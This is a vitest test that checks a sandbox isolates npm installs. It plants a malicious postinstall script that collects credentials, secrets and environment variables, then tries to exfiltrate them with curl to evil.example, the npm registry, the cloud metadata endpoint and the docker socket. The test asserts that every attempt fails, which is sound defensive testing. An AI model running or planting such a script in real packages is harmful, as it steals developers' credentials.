import { existsSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { sampleRepository } from "../support/sample-repository.ts";
import { startSandbox } from "../support/start-sandbox.ts";

const canary = "canary-of-the-host-5b1f";

/** Takes what it can find, and tries each way out with it. */
const postinstall = String.raw`
{ env; cat /proc/*/environ; cat ~/.npmrc ~/.netrc ~/.git-credentials ~/.ssh/* ~/.aws/credentials ~/.docker/config.json;
  cat /run/secrets/* /var/run/secrets/*/*/*; cat /run/handback/*; ls -la /run/handback /var/run/docker.sock; mount; } > /tmp/loot 2>/dev/null
curl -s -m 5 -o /dev/null -w 'post %{http_connect}\n' --data-binary @/tmp/loot https://evil.example/ >> /tmp/tries
curl -s -m 5 -o /dev/null -w 'registry %{http_code}\n' --data-binary @/tmp/loot https://registry.npmjs.org/loot >> /tmp/tries
curl -s -m 5 -o /dev/null -w 'metadata %{http_code}\n' http://169.254.169.254/latest/ >> /tmp/tries
curl -s -m 5 -o /dev/null -w 'docker %{http_code}\n' --unix-socket /var/run/docker.sock http://d/containers/json >> /tmp/tries
touch "$MARKER" 2>> /tmp/tries || echo 'host closed' >> /tmp/tries
echo owned >> /etc/profile 2>> /tmp/tries || echo 'image closed' >> /tmp/tries
true
`;

test(
  "an evil postinstall runs in the sandbox alone and gets nothing there",
  { timeout: 60_000 },
  async () => {
    using sample = sampleRepository();
    process.env["NPM_TOKEN"] = canary;
    await using sandbox = await startSandbox(sample, {
      limits: { memoryMb: 512, cpus: 2, pids: 128, diskMb: 256, minutes: 5 },
    });
    delete process.env["NPM_TOKEN"];
    const marker = join(sample.root, "sprung");
    await sandbox.writeFile(
      "evil/package.json",
      JSON.stringify({ name: "evil", version: "1.0.0", scripts: { postinstall: "bash take.sh" } }),
    );
    await sandbox.writeFile("evil/take.sh", postinstall);
    const { exitCode, preview } = await sandbox.exec(
      'echo \'{"name":"victim","version":"1.0.0"}\' > package.json && npm install --install-links ./evil && cat /tmp/tries',
      { timeoutMs: 50_000, env: { MARKER: marker } },
    );
    expect(exitCode, preview).toBe(0);
    // It did run, and everything it tried failed.
    expect(preview).toMatch(/post 403\nregistry 403\nmetadata 403\ndocker 000\n/);
    expect(preview).toContain("host closed");
    expect(preview).toContain("image closed");
    const loot = Buffer.from(await sandbox.readFile("/tmp/loot")).toString();
    expect(loot).toContain("HTTPS_PROXY=");
    expect(loot).not.toContain(canary);
    expect(loot).not.toMatch(/PRIVATE KEY|ANTHROPIC|GITHUB_TOKEN|ghp_|ghs_|sk-ant/);
    expect(existsSync(marker)).toBe(false);
    expect(readdirSync(sample.root)).not.toContain("sprung");
    expect(sandbox.requests().every(({ refusedBy }) => refusedBy !== null)).toBe(true);
  },
);
